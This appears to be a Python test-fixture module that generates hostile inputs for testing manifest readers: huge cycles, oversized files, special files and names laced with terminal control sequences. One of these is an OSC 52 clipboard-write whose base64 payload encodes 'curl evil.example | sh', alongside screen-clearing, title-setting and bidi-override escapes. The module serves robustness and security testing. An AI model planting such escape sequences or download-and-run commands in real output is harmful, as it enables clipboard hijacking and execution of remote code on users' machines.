"""Hostile inputs for the readers (issue 23), reconstructed from the issue's text: an ownerRef cycle
of 1,000 components, 4,000 distinct expressions, 100,000 unknown fields or repeated keys, special
files given as definition files, a directory of 100,000 files, 250,000 containers in plain JSON, a
5,000-digit quantity, and names carrying terminal control sequences. The regression tests and
``bench/bench_hostile_input.py`` build their inputs here, so both run the same attacks."""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path
from typing import Any

#: Terminal control sequences an attacker would put into names, reasons and messages: clear the
#: screen (CSI 2J), set the window title (OSC 0, BEL-terminated), write the clipboard (OSC 52,
#: ST-terminated), overwrite the line (CR), move the cursor, backspace, a C1 CSI and a bidi override.
ESC_CLEAR = "\x1b[2J"
OSC_TITLE = "\x1b]0;pwned-title\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"
CARRIAGE_RETURN = "\rfake-line"
CURSOR_UP = "\x1b[1A"
BACKSPACE = "\x08\x08\x08"
C1_CSI = "\x9b31m"
BIDI_OVERRIDE = "\u202etxt.exe"
HOSTILE_TEXT = (
    f"evil{ESC_CLEAR}{OSC_TITLE}{OSC_CLIPBOARD}{CARRIAGE_RETURN}{CURSOR_UP}{BACKSPACE}{C1_CSI}{BIDI_OVERRIDE}"
)
#: Raw sequences that must never reach a terminal from hostile data.
RAW_SEQUENCES = ("\x1b", "\x07", "\r", "\x08", "\x9b", "\u202e")


def _root(kind: str = "Widget", group: str = "example.com") -> dict[str, Any]:
    return {
        "name": "root",
        "kind": {"group": group, "version": "v1", "kind": kind},
        "statusDefinition": {
            "phaseDefinition": {"path": ".status.phase"},
            "statusMappings": {"running": [{"byPhase": "Running"}]},
        },
    }


def karta(name: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": "run.ai/v1alpha1", "kind": "Karta", "metadata": {"name": name}, "spec": spec}


def ownerref_cycle(components: int = 1000, name_width: int = 5) -> dict[str, Any]:
    """A Karta whose ``components`` children own each other in one ring that never reaches the root
    (the issue's 1,000-component cycle; upstream's cycle check is reached because every other
    rule passes)."""
    names = [f"c{i:0{name_width}d}" for i in range(components)]
    children = [{"name": n, "ownerRef": names[(i + 1) % components]} for i, n in enumerate(names)]
    return karta("cycle", {"structureDefinition": {"rootComponent": _root(), "childComponents": children}})


def ownerref_cycle_of_size(target_bytes: int = 94 * 1024, components: int = 1000) -> dict[str, Any]:
    """The 1,000-component ring with names long enough that its compact JSON is about
    ``target_bytes`` (the issue's 94 KB request)."""
    width = max(5, (target_bytes // components - len('{"name":"c","ownerRef":"c"},')) // 2)
    return ownerref_cycle(components, name_width=width)


def many_expressions(count: int = 4000) -> dict[str, Any]:
    """A Karta with ``count`` distinct, valid jq expressions (each compiled once by the validator)."""
    matchers = [
        {
            "byExpression": {
                "expression": f"[.status.items{i}[]? | select(.ready == {i}) | .name] | length > {i % 7}",
                "expectedResult": "true",
            }
        }
        for i in range(count)
    ]
    root = _root()
    root["statusDefinition"]["statusMappings"]["running"] = matchers
    return karta("many-expressions", {"structureDefinition": {"rootComponent": root}})


def unknown_fields_yaml(count: int = 100_000) -> str:
    """A Karta whose root component carries ``count`` fields the format does not have."""
    extra = "".join(f"      unknownField{i}: {i}\n" for i in range(count))
    return _karta_yaml_with_root_extra(extra)


def duplicate_keys_yaml(count: int = 100_000) -> str:
    """A Karta whose root component repeats one key ``count`` times (the last value wins)."""
    extra = "".join(f"      name: root{i}\n" for i in range(count))
    return _karta_yaml_with_root_extra(extra)


def _karta_yaml_with_root_extra(extra: str) -> str:
    return (
        "apiVersion: run.ai/v1alpha1\nkind: Karta\nmetadata:\n  name: wide\nspec:\n"
        "  structureDefinition:\n    rootComponent:\n"
        "      kind: {group: example.com, version: v1, kind: Widget}\n"
        "      statusDefinition:\n        phaseDefinition: {path: .status.phase}\n"
        "        statusMappings:\n          running: [{byPhase: Running}]\n"
        f"{extra}      name: root\n"
    )


def small_definition_yaml(kind: str = "Widget") -> str:
    return json.dumps(karta(f"{kind.lower()}s", {"structureDefinition": {"rootComponent": _root(kind)}}))


def directory_of_files(directory: Path, count: int = 100_000) -> Path:
    """``count`` small definition files in one directory (each names its own kind)."""
    directory.mkdir(parents=True, exist_ok=True)
    for i in range(count):
        (directory / f"d{i:06d}.yaml").write_text(small_definition_yaml(f"Kind{i}"))
    return directory


def make_fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def make_socket(path: Path) -> tuple[Path, socket.socket]:
    """A listening Unix socket at ``path`` (close the returned socket when done)."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(str(path))
    sock.listen(1)
    return path, sock


def jobset_with_containers(count: int = 250_000, cpu: str | None = None) -> dict[str, Any]:
    """A JobSet whose one pod template holds ``count`` containers (the issue's plain-JSON file)."""
    containers: list[dict[str, Any]] = [{"name": f"c{i}", "image": "i"} for i in range(count)]
    if cpu is not None:
        for c in containers:
            c["resources"] = {"requests": {"cpu": cpu}}
    return {
        "apiVersion": "jobset.x-k8s.io/v1alpha2",
        "kind": "JobSet",
        "metadata": {"name": "wide", "namespace": "default"},
        "spec": {
            "replicatedJobs": [
                {
                    "name": "workers",
                    "replicas": 1,
                    "template": {"spec": {"template": {"spec": {"containers": containers}}}},
                }
            ]
        },
    }


def huge_quantity_jobset(digits: int = 5000) -> dict[str, Any]:
    """A JobSet whose container asks for a CPU quantity of ``digits`` digits."""
    return jobset_with_containers(1, cpu="9" * digits)


def hostile_name_definition(text: str = HOSTILE_TEXT) -> dict[str, Any]:
    """A definition whose name, component names and a status reason carry terminal control text."""
    root = _root("Gizmo")
    root["name"] = f"root{text}"
    child = {
        "name": f"worker{text}",
        "ownerRef": root["name"],
        "kind": {"group": "", "version": "v1", "kind": "Pod"},
        "specDefinition": {"podSpecPath": ".spec"},
    }
    return karta(
        f"gizmos{text}", {"structureDefinition": {"rootComponent": root, "childComponents": [child]}}
    )
